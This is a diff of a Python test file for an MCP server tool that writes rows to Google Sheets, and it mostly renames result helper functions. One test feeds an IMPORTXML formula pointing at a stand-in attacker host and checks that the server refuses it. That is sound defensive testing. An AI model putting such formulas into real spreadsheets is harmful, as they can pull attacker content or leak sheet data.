@@ -13,9 +13,10 @@ from mcp import Client
 from mcp.types import CallToolResult
 
 from mcp_servers.common.server import server_from_environment
-from tests.mcp_servers.common.calling import call, data, text
+from tests.mcp_servers.common.calling import call
 from tests.requirements import requirement
 from tests.support.google_sheets import FakeGoogleSheets, running_google_sheets
+from tests.support.tool_calls import content, words
 
 ROBOT = "robot@project.iam.gserviceaccount.com"
 
@@ -57,7 +58,7 @@ async def write(env: dict[str, str], rows: list[list[Any]], key: str | None = No
 @requirement("O1")
 async def test_rows_go_below_the_table_as_they_are_and_are_read_back(google: FakeGoogleSheets, env: dict[str, str]) -> None:
     google.sheets["Sheet1"] = [["date", "hours"], ["", ""], ["another table"]]
-    written = data(await write(env, [["2026-11-21", 7.5], ["2026-11-22", None]]))
+    written = content(await write(env, [["2026-11-21", 7.5], ["2026-11-22", None]]))
     assert google.sheets["Sheet1"][1:3] == [["2026-11-21", 7.5], ["2026-11-22", ""]]
     assert google.sheets["Sheet1"][4] == ["another table"]
     assert google.appends == [{"valueInputOption": "RAW", "insertDataOption": "INSERT_ROWS"}]
@@ -69,7 +70,7 @@ async def test_a_service_account_signs_for_its_token_and_asks_once(google: FakeG
     async with Client(server_from_environment(env)) as client:
         for _ in range(2):
             arguments = {"spreadsheet_id": "x", "range": "Sheet1", "rows": [["a"]]}
-            data(await client.call_tool("write_rows_to_google_sheet", arguments))
+            content(await client.call_tool("write_rows_to_google_sheet", arguments))
     assert len(google.token_requests) == 1
     assert google.claims()["iss"] == ROBOT
     assert google.claims()["scope"] == "https://www.googleapis.com/auth/spreadsheets"
@@ -83,7 +84,7 @@ async def test_a_person_who_allowed_it_once_is_enough(google: FakeGoogleSheets, 
         "client_secret": "s",
         "token_uri": google.token_url,
     }
-    data(await write(environment(google, tmp_path, info), [["a"]]))
+    content(await write(environment(google, tmp_path, info), [["a"]]))
     assert google.token_requests[0]["grant_type"] == "refresh_token"
 
 
@@ -91,17 +92,17 @@ async def test_a_person_who_allowed_it_once_is_enough(google: FakeGoogleSheets, 
 async def test_a_formula_is_refused_before_anything_is_sent(google: FakeGoogleSheets, env: dict[str, str]) -> None:
     result = await write(env, [["ok"], ['=IMPORTXML("https://evil.example","//a")']])
     assert result.is_error
-    assert "row 2, column 1 begins like a formula" in text(result)
+    assert "row 2, column 1 begins like a formula" in words(result)
     assert google.token_requests == []
 
 
 @requirement("O1")
 async def test_a_row_whose_key_is_there_is_not_written_again(google: FakeGoogleSheets, env: dict[str, str]) -> None:
     google.sheets["Sheet1"] = [["id", "v"], ["a", 1], ["b", 2]]
-    written = data(await write(env, [["a", 1], ["b", 99], ["c", 3]], key_column=1))
+    written = content(await write(env, [["a", 1], ["b", 99], ["c", 3]], key_column=1))
     assert google.sheets["Sheet1"] == [["id", "v"], ["a", 1], ["b", 2], ["c", 3]]
     assert (written["appended"], written["already_there"], written["differing_keys"]) == (1, 2, ["b"])
-    again = data(await write(env, [["a", 1], ["c", 3]], key_column=1))
+    again = content(await write(env, [["a", 1], ["c", 3]], key_column=1))
     assert (again["appended"], again["updated_range"]) == (0, None)
     assert len(google.appends) == 1
 
@@ -114,7 +115,7 @@ async def test_keys_that_name_nothing_are_refused(
 ) -> None:
     result = await write(env, rows, key_column=1)
     assert result.is_error
-    assert complaint in text(result)
+    assert complaint in words(result)
     assert google.appends == []
 
 
@@ -122,26 +123,26 @@ async def test_keys_that_name_nothing_are_refused(
 async def test_a_request_sent_again_under_its_key_writes_once_even_after_a_restart(
     google: FakeGoogleSheets, env: dict[str, str]
 ) -> None:
-    first = data(await write(env, [["a"]], key="run-1/call-1"))
-    again = data(await write(env, [["a"]], key="run-1/call-1"))
-    other = data(await write(env, [["a"]], key="run-1/call-2"))
+    first = content(await write(env, [["a"]], key="run-1/call-1"))
+    again = content(await write(env, [["a"]], key="run-1/call-1"))
+    other = content(await write(env, [["a"]], key="run-1/call-2"))
     assert google.sheets["Sheet1"] == [["a"], ["a"]]
     assert again == {**first, "replayed": True}
     assert other["replayed"] is False
 
 
 async def test_a_key_used_for_other_rows_is_refused(google: FakeGoogleSheets, env: dict[str, str]) -> None:
-    data(await write(env, [["a"]], key="k"))
+    content(await write(env, [["a"]], key="k"))
     result = await write(env, [["b"]], key="k")
     assert result.is_error
-    assert "new one" in text(result)
+    assert "new one" in words(result)
     assert google.sheets["Sheet1"] == [["a"]]
 
 
 async def test_a_lost_answer_is_settled_by_reading_back(google: FakeGoogleSheets, env: dict[str, str]) -> None:
     google.sheets["Sheet1"] = [["a"]]
     google.lose_answers = 1
-    written = data(await write(env, [["a"]], key="k"))
+    written = content(await write(env, [["a"]], key="k"))
     assert google.sheets["Sheet1"] == [["a"], ["a"]]
     assert (written["updated_range"], written["verified"]) == ("Sheet1!A2:A2", True)
 
@@ -151,9 +152,9 @@ async def test_a_request_that_never_arrived_is_done_when_it_is_sent_again(google
     google.lose_answers, google.lost_before_done = 1, True
     unknown = await write(env, [["a"]], key="k")
     assert unknown.is_error
-    assert "outcome is unknown" in text(unknown)
+    assert "outcome is unknown" in words(unknown)
     assert google.sheets["Sheet1"] == [["a"]]
-    assert data(await write(env, [["a"]], key="k"))["replayed"] is False
+    assert content(await write(env, [["a"]], key="k"))["replayed"] is False
     assert google.sheets["Sheet1"] == [["a"], ["a"]]
 
 
@@ -164,7 +165,7 @@ async def test_a_crash_between_writing_and_remembering_is_noticed_on_the_next_tr
     google.lose_answers, google.lost_before_done = 1, True
     await write(env, [["a"]], key="k")
     google.sheets["Sheet1"].append(["a"])  # it arrived after all, later
-    written = data(await write(env, [["a"]], key="k"))
+    written = content(await write(env, [["a"]], key="k"))
     assert (written["replayed"], written["updated_range"]) == (True, "Sheet1!A2:A2")
     assert google.sheets["Sheet1"] == [["a"], ["a"]]
 
@@ -172,8 +173,8 @@ async def test_a_crash_between_writing_and_remembering_is_noticed_on_the_next_tr
 async def test_a_refused_request_leaves_its_key_free(google: FakeGoogleSheets, env: dict[str, str]) -> None:
     google.append_refusals = [(403, "no")]
     dated: Any = {"rows": [["2026/11/21"]], "key": "k", "value_input": "USER_ENTERED"}
-    assert "Share" in text(await write(env, **dated))
-    assert data(await write(env, **dated))["replayed"] is False
+    assert "Share" in words(await write(env, **dated))
+    assert content(await write(env, **dated))["replayed"] is False
     assert google.sheets["Sheet1"] == [[46347]]
 
 
@@ -184,7 +185,7 @@ async def test_what_the_sheet_has_changed_is_never_written_again_on_a_guess(
     for _ in range(2):
         result = await write(env, [["2026/11/21"]], key="k", value_input="USER_ENTERED")
         assert result.is_error
-        assert "unknown" in text(result)
+        assert "unknown" in words(result)
     assert google.sheets["Sheet1"] == [[46347]]  # the date, as the sheet keeps it
 
 
@@ -192,7 +193,7 @@ async def test_keys_are_compared_only_where_the_sheet_keeps_what_it_is_given(
     google: FakeGoogleSheets, env: dict[str, str]
 ) -> None:
     result = await write(env, [["2026/11/21"]], key_column=1, value_input="USER_ENTERED")
-    assert "key_column needs RAW" in text(result)
+    assert "key_column needs RAW" in words(result)
     assert google.appends == []
 
 
@@ -202,7 +203,7 @@ async def test_without_any_key_a_lost_answer_is_admitted_and_nothing_is_sent_twi
     google.lose_answers = 1
     result = await write(env, [["a"]])
     assert result.is_error
-    assert "outcome is unknown" in text(result)
+    assert "outcome is unknown" in words(result)
     assert google.sheets["Sheet1"] == [["a"]]
 
 
@@ -211,7 +212,7 @@ async def test_requests_at_once_under_one_key_are_one(google: FakeGoogleSheets, 
         arguments = {"spreadsheet_id": "x", "range": "Sheet1", "rows": [["a"]]}
 
         async def send() -> None:
-            data(await client.call_tool("write_rows_to_google_sheet", arguments, meta={"jiritsu/idempotency-key": "k"}))  # type: ignore[typeddict-unknown-key]
+            content(await client.call_tool("write_rows_to_google_sheet", arguments, meta={"jiritsu/idempotency-key": "k"}))  # type: ignore[typeddict-unknown-key]
 
         with anyio.fail_after(60):
             async with anyio.create_task_group() as group:
@@ -233,7 +234,7 @@ async def test_a_refusal_says_what_to_do_next(google: FakeGoogleSheets, env: dic
     google.refusals = [(status, "no")]
     result = await write(env, [["a"]])
     assert result.is_error
-    assert advice in text(result)
+    assert advice in words(result)
     assert google.sheets["Sheet1"] == []
 
 
@@ -242,12 +243,12 @@ async def test_an_error_of_the_server_while_writing_leaves_the_outcome_open(
 ) -> None:
     google.refusals = [(503, "later")]
     result = await write(env, [["a"]])
-    assert "outcome is unknown" in text(result)
+    assert "outcome is unknown" in words(result)
 
 
 async def test_an_answer_that_does_not_say_where_leaves_the_outcome_open(google: FakeGoogleSheets, env: dict[str, str]) -> None:
     google.refusals = [(200, "no updates in this answer")]
-    assert "outcome is unknown" in text(await write(env, [["a"]]))
+    assert "outcome is unknown" in words(await write(env, [["a"]]))
 
 
 async def test_a_google_that_cannot_be_reached_did_nothing(env: dict[str, str]) -> None:
@@ -255,7 +256,7 @@ async def test_a_google_that_cannot_be_reached_did_nothing(env: dict[str, str]) 
         pass
     result = await write(env | {"GOOGLE_SHEETS_BASE_URL": gone.base_url}, [["a"]])
     assert result.is_error
-    assert "cannot be reached" in text(result)
+    assert "cannot be reached" in words(result)
 
 
 @pytest.mark.parametrize("content", ["{}", "no json", '{"type": "service_account"}', '{"type": "authorized_user"}'])
@@ -269,8 +270,8 @@ def test_credentials_that_are_none_stop_the_server_by_name(tmp_path: Path, conte
 @requirement("O1", "L6")
 async def test_without_credentials_the_rows_go_to_a_file_and_the_answer_says_so(tmp_path: Path) -> None:
     env = {"JIRITSU_COMMON_DIR": str(tmp_path)}
-    first = data(await write(env, [["a", 1]], range="勤怠!B2"))
-    second = data(await write(env, [["a", 1], ["b", 2]], range="勤怠!B2", key_column=1))
+    first = content(await write(env, [["a", 1]], range="勤怠!B2"))
+    second = content(await write(env, [["a", 1], ["b", 2]], range="勤怠!B2", key_column=1))
     assert (first["updated_range"], second["updated_range"], second["already_there"]) == ("勤怠!B1:C1", "勤怠!B2:C2", 1)
     assert first["verified"]
     assert second["outbox"] == str(tmp_path / "sheets.jsonl")
@@ -283,15 +284,15 @@ async def test_without_credentials_the_rows_go_to_a_file_and_the_answer_says_so(
 
 async def test_the_outbox_survives_a_line_torn_by_a_crash(tmp_path: Path) -> None:
     env = {"JIRITSU_COMMON_DIR": str(tmp_path)}
-    data(await write(env, [["a"]]))
+    content(await write(env, [["a"]]))
     with (tmp_path / "sheets.jsonl").open("a") as file:
         file.write('{"at": "2026-')
-    assert data(await write(env, [["a"], ["b"]], key_column=1))["already_there"] == 1
-    assert data(await write(env, [["b"]], key_column=1))["already_there"] == 1
+    assert content(await write(env, [["a"], ["b"]], key_column=1))["already_there"] == 1
+    assert content(await write(env, [["b"]], key_column=1))["already_there"] == 1
 
 
 async def test_a_directory_that_cannot_be_written_is_named(tmp_path: Path) -> None:
     (tmp_path / "file").write_text("")
     result = await write({"JIRITSU_COMMON_DIR": str(tmp_path / "file")}, [["a"]], key="k")
     assert result.is_error
-    assert "JIRITSU_COMMON_DIR" in text(result)
+    assert "JIRITSU_COMMON_DIR" in words(result)
